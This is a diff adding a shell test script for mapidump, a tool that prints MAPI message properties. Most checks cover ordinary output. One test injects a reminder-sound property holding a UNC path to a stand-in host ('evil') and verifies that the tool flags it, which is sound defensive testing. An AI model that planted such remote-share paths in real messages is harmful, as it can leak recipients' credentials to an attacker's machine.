@@ -1,0 +1,20 @@
+# mapidump: properties by name, for people and as JSON Lines.
+. tests/cli/lib.sh
+ok "for people" mapidump testdata/sample.msg
+printed "a text" 'PidTagConversationTopic *PtypString 0x0070 "Käsefondue on Friday"'
+printed "a time" 'PidTagClientSubmitTime *PtypTime 0x0039 2026-11-20 16:45:00'
+printed "a named property" 'PidNameKeywords *PtypMultipleString \["Fun", "Food, warm"\]'
+printed "what is inside" '/attachment/3/message/recipient/1'
+ok "JSON" mapidump --json testdata/sample.msg
+printed "a named property by set and name" '"property": "PidNameKeywords", "set": "PS_PUBLIC_STRINGS", "name": "Keywords"'
+if have python3; then
+	ok "each line is JSON" sh -c "mapidump --json testdata/sample.msg | python3 -c \"import json, sys; [json.loads(l) for l in sys.stdin]\""
+fi
+sed '/PidTagAttachMethod.*1}/s/"value": 1/"value": 2/
+1a {"path": "/", "set": "PSETID_Common", "lid": "0x851F", "type": "PtypString", "value": "\\\\\\\\evil\\\\share\\\\a.wav"}' \
+    testdata/sample.json | mapimake >"$T/risk.msg"
+ok "what could harm" mapidump -o "$T/risk.txt" "$T/risk.msg"
+said "is flagged" 'PidLidReminderFileParameter names another machine'
+ok "winmail.dat too" sh -c "msg2tnef testdata/sample.msg | mapidump | grep -q Matterhorn"
+exits 65 "what is no message" mapidump testdata/README
+finish
